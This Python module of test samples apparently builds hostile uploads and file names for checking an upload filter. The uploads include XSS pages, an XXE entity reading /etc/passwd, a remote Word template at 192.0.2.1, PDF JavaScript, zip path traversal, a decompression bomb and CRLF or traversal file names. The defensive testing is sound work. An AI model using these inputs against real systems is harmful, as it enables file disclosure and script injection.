"""Files that nobody should upload, made here, and names that no file should have (bars 23 and 31; bad inputs 28 to 34).

Each holds `MARK` where it could do harm, so that it is found wherever it comes out again.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator
from functools import cache

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from handrail.pupils.tests import samples
from handrail.pupils.tests.samples import packed, pdf, photo, word_with

MARK = b"cnryfile"
SCRIPT = b"<script>" + MARK + b"()</script>"
PAGE = b"<!doctype html><html><body>" + SCRIPT
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*" + MARK
ENTITY = b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
REMOTE = b'<Relationships><Relationship TargetMode="External" Target="http://192.0.2.1/cnryfile.dotm"/></Relationships>'
TYPES = "[Content_Types].xml"
RUNS = b"/Catalog/OpenAction<</S/JavaScript/JS(cnryfile)>>"
RTF = b"{\\rtf1 words of a report}"

NAMES = (
    "../../../etc/cnryname.pdf", "..\\..\\cnryname.docx", "/etc/cnryname", "C:\\cnryname.pdf", "CON", "nul.pdf",
    "com1.docx", "cnryname" * 40 + ".pdf", "cnryname\r\nX-Evil: 1.pdf", "cnryname\0.pdf", "\u202ecnryname-fdp.exe",
    "cnryname\u200b.pdf", ".htaccess", "cnryname.pdf.html", "cnryname.svg", "cnryname;filename=x.html",
    'cnryname".html', "<script>cnryname()</script>.pdf", "cnryname%2f..%2f.pdf", "cnryname\N{GRINNING FACE}.pdf",
    "Cnry\u0301name.pdf", "~/cnryname", "file:///cnryname", "cnryname.pdf::$DATA", "=cnryname().pdf",
)  # fmt: skip


@cache
def refused() -> dict[str, bytes]:
    """What is none of the kinds that are kept, whatever it is called."""
    return {
        "a program": b"MZ\x90\0" + MARK * 30,
        "a program of another machine": b"\x7fELF" + MARK * 30,
        "a script of the shell": b"#!/bin/sh\n" + MARK,
        "a web page": PAGE,
        "a web page behind a mark of order": b"\xef\xbb\xbf \n" + PAGE,
        "a saved web page": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE,
        "a drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='cnryfile()'>" + SCRIPT + b"</svg>",
        "a drawing behind its declaration": b"<?xml version='1.0'?><svg>" + SCRIPT + b"</svg>",
        "XML with an entity": ENTITY,
        "a virus as it stands": EICAR,
        "a moving picture that is a script": b"GIF89a/*" + MARK + b"*/=1;" + SCRIPT,
        "a picture of another kind": b"BM" + MARK * 30,
        "fifty thousand pixels": samples.vast_png(),
        "fifty thousand pixels, one high": samples.vast_png(50_000_000, 2),
        "a picture that is one by its first bytes only": b"\xff\xd8\xff\xe0" + SCRIPT * 9,
        "a PNG that is one by its first bytes only": b"\x89PNG\r\n\x1a\n" + SCRIPT * 9,
        "a picture cut off": photo()[:500],
        "a folder packed": packed({"cnryfile.html": PAGE}),
        "a folder with a way out": packed({"../../cnryfile": PAGE}),
        "a folder in a folder": packed({"inner.zip": packed({"word/document.xml": PAGE})}),
        "a program of Java": packed({"META-INF/MANIFEST.MF": b"Main-Class: Cnry", "Cnry.class": b"\xca\xfe\xba\xbe"}),
        "a zip that is none": b"PK\x03\x04" + MARK * 30,
        "Word with macros": word_with({"word/vbaProject.bin": MARK}),
        "Word that says it has macros": word_with({TYPES: b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "Word that unpacks to a house": word_with({"word/media/a": b"\0" * (101 * 1024 * 1024)}),
        "a workbook": packed({"xl/workbook.xml": MARK}),
        "RTF with a thing inside": b"{\\rtf1{\\object\\objdata " + MARK + b"}}",
        "nothing": b"",
        "text": MARK * 30,
    }  # fmt: skip


@cache
def kept() -> dict[str, tuple[str, bytes]]:
    """What is kept as one of the kinds, and must come out as nothing else."""
    return {
        "a PDF that is a web page after it": ("pdf", pdf("Words") + PAGE),
        "a PDF that is a web page before it": ("pdf", PAGE + pdf("Words")),
        "a PDF with a script": ("pdf", pdf("Words").replace(b"/Catalog", RUNS)),
        "a PDF that is a zip": ("pdf", pdf("Words") + packed({"cnryfile.html": PAGE})),
        "a PDF with a virus": ("pdf", b"%PDF-1.4\n" + EICAR),
        "a PDF that is broken": ("pdf", b"%PDF-1.4 " + MARK),
        "a PDF that turns in a circle": ("pdf", pdf("Words").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")),
        "a PDF with a password": ("pdf", samples.locked_pdf()),
        "Word with a template elsewhere": ("docx", word_with({"word/_rels/settings.xml.rels": REMOTE})),
        "Word with an entity": ("docx", word_with({"word/document.xml": ENTITY})),
        "Word with a way out": ("docx", word_with({"../../cnryfile": PAGE})),
        "RTF": ("rtf", RTF + PAGE),
        "a photo with its place": ("jpeg", photo()),
        "a photo with its place in words": ("jpeg", _photo_with_words()),
        "a photo that is a zip": ("jpeg", photo() + packed({"cnryfile.class": PAGE})),
        "a photo that is a PDF": ("jpeg", photo() + pdf("Words") + PAGE),
        "a photo with a page in its comment": ("jpeg", _photo_with_comment()),
        "a PNG with its place": ("png", _png_with_place()),
        "a PNG with a page in its words": ("png", _png_with_words()),
        "a PNG with a page after it": ("png", _png_with_place() + PAGE),
        "a PNG with a part of its own": ("png", _png_with_part()),
    }  # fmt: skip


def _photo_with_words() -> bytes:
    """XMP, in which a phone writes the place once more."""
    said = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta exif:GPSLatitude='51,30N'>" + MARK + b"</x:xmpmeta>"
    return _after_start(b"\xff\xe1" + struct.pack(">H", len(said) + 2) + said)


def _photo_with_comment() -> bytes:
    return _after_start(b"\xff\xfe" + struct.pack(">H", len(PAGE) + 2) + PAGE)


def _after_start(part: bytes) -> bytes:
    start, rest = photo()[:2], photo()[2:]
    return start + part + rest


def _png_with_place() -> bytes:
    image, exif, out = Image.new("RGB", (8, 8), "teal"), Image.Exif(), io.BytesIO()
    exif[0x010F] = MARK.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0)})
    image.save(out, "PNG", exif=exif)
    return out.getvalue()


def _png_with_words() -> bytes:
    words, out = PngInfo(), io.BytesIO()
    words.add_itxt("XML:com.adobe.xmp", f"exif:GPSLatitude {PAGE.decode()}")
    Image.new("RGB", (8, 8), "teal").save(out, "PNG", pnginfo=words)
    return out.getvalue()


def _png_with_part() -> bytes:
    whole = _png_with_place()
    part = b"cnRy" + PAGE
    return whole[:-12] + struct.pack(">I", len(PAGE)) + part + struct.pack(">I", zlib.crc32(part)) + whole[-12:]


def named(every: int) -> Iterator[tuple[str, str, str, bytes]]:
    """(what it is, the kind it is kept as or nothing, a name, the file): each with so many of the names."""
    files = [(what, "", content) for what, content in refused().items()]
    files += [(what, kind, content) for what, (kind, content) in kept().items()]
    for place, (what, kind, content) in enumerate(files):
        for more in range(every):
            yield what, kind, NAMES[(place + more) % len(NAMES)], content
